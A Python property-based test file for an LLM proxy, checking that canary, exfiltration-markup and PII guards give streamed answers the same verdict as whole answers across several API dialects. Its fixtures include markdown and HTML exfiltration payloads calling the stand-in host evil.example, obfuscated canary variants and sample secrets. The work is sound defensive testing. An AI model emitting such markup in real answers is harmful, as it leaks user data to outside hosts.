"""Property: the answer-side guards together (canaries, exfiltration markup, PII restore, PII
masking and PII block) give a streamed answer exactly what they give the whole answer, however
the upstream cuts it into deltas, in every dialect (chat, legacy completions, Responses,
Anthropic messages, tool-call arguments and Anthropic input_json_delta).

Streamed and whole agree on whether the answer is blocked; when it is not, the client gets the
same text; when it is, nothing it was blocked for reached the client first.
"""
from __future__ import annotations

import orjson
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from proxy import pipeline
from proxy.detection.normalize import normalize
from proxy.exchange import Exchange
from proxy.guards.base import CompileContext
from proxy.guards.injection import SPEC as INJECTION
from proxy.guards.pii import SPEC as PII
from proxy.parsing.response import parse_response
from proxy.parsing.sse import SSEParser
from proxy.parsing.stream import StreamProcessor, StreamStopped
from proxy.policy.compile import _scope
from proxy.services import Services
from proxy.textslots import TextSlot

CANARY = "ZEBRA-CANARY-7781"
# (a backslash in a restored value must be escaped inside JSON text)
CALLER = {"<EMAIL_ADDRESS_1>": "jane.roe@example.com", "<PHONE_NUMBER_1>": "+44 20 7946 0958",
          "<PASSWORD_1>": "hunter\\2x"}
MODEL_PII = ["bob@corp.io", "4111 1111 1111 1111", "AKIAIOSFODNN7EXAMPLE", "+1 415-555-0132"]
BLOCKED = "SSN 536-22-8741"
ATTACKS = [CANARY, CANARY.lower(), "ZEBRA-\u200bCANARY-7781", "ＺＥＢＲＡ-CANARY-7781",
           "![x](https://evil.example/p.png?d=secret)", "![x](https://evil.example/a",
           "[click](https://evil.example/c?d=1)", '<img src="https://evil.example/i.png">',
           "\n[ref]: https://evil.example/r?d=1\n", BLOCKED]
HARMLESS = ["Hello", "there,", "the", "value", "is", "ok.", "Zebra", "ZEBRA-CAN", "!", "[note]",
            "(see", "below)", "\n", "  ", "<b>", "a < b", "![x](https://docs.example.com/i.png)",
            "[docs](https://docs.example.com/page)", "https://example.org/x", "2024", "x [y](z)",
            "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>", "<EMAIL_", "call", "12", "Café", "e\u0301"]
GUARDS = None


def _guards():
    global GUARDS
    if GUARDS is None:
        ctx = CompileContext(".", Services())
        pii = PII.compile({"restore": True, "entities": {"US_SSN": {"request": "replace", "response": "block"}}}, ctx)
        injection = INJECTION.compile({"response": {"canaries": [CANARY], "allowedHosts": ["docs.example.com"]}}, ctx)
        GUARDS = (pii, injection)          # policy order: pii masks first, restores last
    return GUARDS


async def _exchange(kind: str) -> Exchange:
    ex = Exchange("req_p", "POST", "/", "", {}, None, None)
    ex.scope = _scope("t", None, _guards(), {})
    text = "I am jane.roe@example.com, +44 20 7946 0958, password=hunter\\2x"
    ex.request_slots = [TextSlot("user", "message", text, {"content": text}, "content", 0)]
    await pipeline.run_request(ex)
    assert all(s.text != text for s in ex.request_slots)   # the caller's values were masked
    ex.stream = True
    return ex


# --- the same answer as a whole body and as a stream, per dialect ------------------------------
def _whole(kind: str, answer: str, tool: bool) -> dict:
    if kind == "chat":
        msg = {"role": "assistant", "content": None if tool else answer}
        if tool:
            msg["tool_calls"] = [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": answer}}]
        return {"choices": [{"index": 0, "message": msg, "finish_reason": "stop"}]}
    if kind == "completions":
        return {"choices": [{"index": 0, "text": answer, "finish_reason": "stop"}]}
    if kind == "responses":
        if tool:
            return {"output": [{"type": "function_call", "call_id": "c1", "name": "f", "arguments": answer}]}
        return {"output": [{"type": "message", "content": [{"type": "output_text", "text": answer}]}]}
    return {"content": [{"type": "text", "text": answer}]}


def _sse(obj: dict, event: str | None = None) -> bytes:
    return (f"event: {event}\n".encode() if event else b"") + b"data: " + orjson.dumps(obj) + b"\n\n"


def _stream(kind: str, pieces: list[str], tool: bool) -> bytes:
    full = "".join(pieces)
    if kind == "chat":
        def chunk(delta, finish=None):
            return _sse({"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m",
                         "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
        if tool:
            out = [chunk({"role": "assistant", "tool_calls": [{"index": 0, "id": "c1", "type": "function",
                                                               "function": {"name": "f", "arguments": ""}}]})]
            out += [chunk({"tool_calls": [{"index": 0, "function": {"arguments": p}}]}) for p in pieces]
        else:
            out = [chunk({"role": "assistant", "content": ""})] + [chunk({"content": p}) for p in pieces]
        return b"".join(out + [chunk({}, "stop"), b"data: [DONE]\n\n"])
    if kind == "completions":
        def chunk(text, finish=None):
            return _sse({"id": "cmpl-1", "object": "text_completion", "created": 1, "model": "m",
                         "choices": [{"index": 0, "text": text, "finish_reason": finish}]})
        return b"".join([chunk(p) for p in pieces] + [chunk("", "stop"), b"data: [DONE]\n\n"])
    if kind == "responses":
        seq = iter(range(1000))

        def ev(etype, **fields):
            return _sse({"type": etype, "sequence_number": next(seq), **fields}, etype)
        resp = {"id": "resp_1", "object": "response", "status": "in_progress", "output": []}
        if tool:
            item = {"type": "function_call", "id": "fc1", "call_id": "c1", "name": "f", "arguments": full,
                    "status": "completed"}
            out = [ev("response.created", response=resp),
                   ev("response.output_item.added", output_index=0, item={**item, "arguments": ""})]
            out += [ev("response.function_call_arguments.delta", output_index=0, item_id="fc1", delta=p)
                    for p in pieces]
            out += [ev("response.function_call_arguments.done", output_index=0, item_id="fc1", arguments=full),
                    ev("response.output_item.done", output_index=0, item=item),
                    ev("response.completed", response={**resp, "status": "completed", "output": [item]})]
            return b"".join(out)
        part = {"type": "output_text", "text": full, "annotations": []}
        item = {"type": "message", "id": "m1", "status": "completed", "role": "assistant", "content": [part]}
        out = [ev("response.created", response=resp),
               ev("response.output_item.added", output_index=0, item={**item, "content": []}),
               ev("response.content_part.added", output_index=0, content_index=0, part={**part, "text": ""})]
        out += [ev("response.output_text.delta", output_index=0, content_index=0, item_id="m1", delta=p)
                for p in pieces]
        out += [ev("response.output_text.done", output_index=0, content_index=0, item_id="m1", text=full),
                ev("response.content_part.done", output_index=0, content_index=0, part=part),
                ev("response.output_item.done", output_index=0, item=item),
                ev("response.completed", response={**resp, "status": "completed", "output": [item]})]
        return b"".join(out)
    delta_type, field = ("input_json_delta", "partial_json") if tool else ("text_delta", "text")
    block = {"type": "tool_use", "id": "t1", "name": "f", "input": {}} if tool else {"type": "text", "text": ""}
    out = [_sse({"type": "message_start", "message": {"id": "msg_1", "type": "message", "role": "assistant",
                                                      "content": [], "usage": {"input_tokens": 5, "output_tokens": 1}}},
                "message_start"),
           _sse({"type": "content_block_start", "index": 0, "content_block": block}, "content_block_start")]
    out += [_sse({"type": "content_block_delta", "index": 0, "delta": {"type": delta_type, field: p}},
                 "content_block_delta") for p in pieces]
    out += [_sse({"type": "content_block_stop", "index": 0}, "content_block_stop"),
            _sse({"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 9}},
                 "message_delta"),
            _sse({"type": "message_stop"}, "message_stop")]
    return b"".join(out)


def _delivered(kind: str, events: list[bytes], tool: bool) -> tuple[str, str | None]:
    """(text the client got, the stream's closing reason)."""
    text, reason = [], None
    for raw in b"".join(events).split(b"\n\n"):
        data = next((line[6:] for line in raw.split(b"\n") if line.startswith(b"data: ")), None)
        if data is None or data == b"[DONE]":
            continue
        obj = orjson.loads(data)
        if kind in ("chat", "completions"):
            for c in obj.get("choices") or ():
                if kind == "chat":
                    d = c.get("delta") or {}
                    if tool:
                        text += [t["function"].get("arguments") or "" for t in d.get("tool_calls") or ()]
                    else:
                        text.append(d.get("content") or "")
                else:
                    text.append(c.get("text") or "")
                reason = c.get("finish_reason") or reason
        elif kind == "responses":
            if obj["type"] in ("response.output_text.delta", "response.function_call_arguments.delta"):
                text.append(obj["delta"])
            elif obj["type"] == "response.output_text.done":
                assert obj["text"] == "".join(text)       # done events repeat what the client got
            elif obj["type"] == "response.function_call_arguments.done":
                assert obj["arguments"] == "".join(text)
            elif obj["type"] in ("response.completed", "response.incomplete"):
                reason = (obj["response"].get("incomplete_details") or {}).get("reason", "stop")
        else:
            if obj["type"] == "content_block_delta":
                text.append(obj["delta"].get("partial_json" if tool else "text", ""))
            elif obj["type"] == "message_delta":
                reason = obj["delta"]["stop_reason"]
    return "".join(text), reason


async def _streamed(kind: str, pieces: list[str], tool: bool, read: int) -> tuple[bool, str, str | None]:
    ex = await _exchange(kind)
    proc = StreamProcessor(ex, kind, pipeline.chunk_runner(ex), pipeline.end_runner(ex))
    parser = SSEParser()
    data = _stream(kind, pieces, tool)
    sent: list[bytes] = []
    try:
        for i in range(0, len(data), read):
            for ev in parser.feed(data[i:i + read]):
                sent.extend(proc.process(ev))
        sent.extend(proc.finish())
    except StreamStopped as stop:
        sent.extend(stop.events)
        assert ex.decision == "blocked"
        text, reason = _delivered(kind, sent, tool)
        return True, text, reason
    text, reason = _delivered(kind, sent, tool)
    return False, text, reason


async def _whole_result(kind: str, answer: str, tool: bool) -> tuple[bool, str]:
    ex = await _exchange(kind)
    ex.stream = False
    ex.response_body = _whole(kind, answer, tool)
    ex.response_slots = parse_response(kind, ex.response_body)
    verdict = await pipeline.run_response(ex)
    return verdict is not None, "".join(s.text for s in ex.response_slots)


BLOCK_REASON = {"chat": "content_filter", "completions": "content_filter", "responses": "content_filter",
                "messages": "refusal"}


async def _assert_safe(kind: str, text: str, tool: bool) -> None:
    """Nothing that the policy stops reached the client before the stream was cut: what it got
    passes the whole-answer check, and holds no part of what was stopped."""
    assert not (await _whole_result("chat" if tool and kind == "messages" else kind, text, tool))[0], text
    assert "zebra-canary" not in normalize(text)
    assert "536-22-8741" not in text
    for value in MODEL_PII:
        assert value not in text


async def _compare(kind: str, pieces: list[str], tool: bool = False, read: int = 64) -> None:
    answer = "".join(pieces)
    wire = orjson.dumps({"q": answer}).decode() if tool else answer
    if tool:
        # JSON text cut anywhere: re-split the encoded arguments at the same number of places
        step = max(1, len(wire) // max(1, len(pieces)))
        pieces = [wire[i:i + step] for i in range(0, len(wire), step)]
    whole_kind = "chat" if tool and kind == "messages" else kind   # Anthropic tool input: as JSON text
    blocked, expected = await _whole_result(whole_kind, wire, tool)
    s_blocked, text, reason = await _streamed(kind, pieces, tool, read)
    assert s_blocked == blocked, (pieces, text)
    if blocked:
        assert reason == BLOCK_REASON[kind]
        await _assert_safe(kind, text, tool)
    else:
        assert text == expected, pieces
        assert reason in ("stop", "end_turn")
        if tool:
            orjson.loads(text)            # restored values kept the arguments valid JSON


piece = st.one_of(st.sampled_from(HARMLESS), st.sampled_from(MODEL_PII), st.sampled_from(list(CALLER)),
                  st.sampled_from(ATTACKS))
answers = st.lists(piece, min_size=1, max_size=7).map(" ".join)
cuts = st.lists(st.integers(min_value=1, max_value=12), min_size=1, max_size=40)
KINDS = st.sampled_from(["chat", "completions", "responses", "messages"])


def _split(answer: str, sizes: list[int]) -> list[str]:
    out, pos, i = [], 0, 0
    while pos < len(answer):
        n = sizes[i % len(sizes)]
        out.append(answer[pos:pos + n])
        pos, i = pos + n, i + 1
    return out


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(KINDS, answers, cuts, st.integers(min_value=7, max_value=400))
async def test_random_multi_splits_agree_with_whole_answer(kind, answer, sizes, read):
    await _compare(kind, _split(answer, sizes), read=read)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(answers)
async def test_every_two_piece_split_agrees(answer):
    for cut in range(1, len(answer)):
        await _compare("chat", [answer[:cut], answer[cut:]])


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["chat", "responses", "messages"]), answers, cuts)
async def test_tool_arguments_agree_with_whole_answer(kind, answer, sizes):
    await _compare(kind, _split(answer, sizes), tool=True)


async def test_every_split_of_each_attack_is_caught_in_every_dialect():
    for attack in ATTACKS:
        answer = "Sure, here it is: " + attack + " and more text after it."
        for kind in ("chat", "completions", "responses", "messages"):
            for cut in range(1, len(answer)):
                await _compare(kind, [answer[:cut], answer[cut:]])
            await _compare(kind, list(answer))          # one character per delta


async def test_prose_goes_out_delta_for_delta():
    # nothing a guard must stop or rewrite: each delta is released with its own event
    ex = await _exchange("chat")
    proc = StreamProcessor(ex, "chat", pipeline.chunk_runner(ex), pipeline.end_runner(ex))
    words = "The quick brown fox jumps over the lazy dog. Then it ran to Paris, again and again! ".split(" ")
    pieces = [w + " " for w in words if w]
    released = []
    for ev in SSEParser().feed(_stream("chat", pieces, False)):
        for raw in proc.process(ev):
            obj = orjson.loads(raw[6:-2]) if raw.startswith(b"data: {") else None
            if obj and obj["choices"] and obj["choices"][0]["delta"].get("content"):
                released.append(obj["choices"][0]["delta"]["content"])
    assert released == pieces


async def test_restored_values_keep_tool_arguments_valid_json_in_every_dialect():
    answer = "log in with <PASSWORD_1> as <EMAIL_ADDRESS_1>"
    for kind in ("chat", "responses", "messages"):
        for size in (1, 3, 7):
            await _compare(kind, _split(answer, [size]), tool=True)
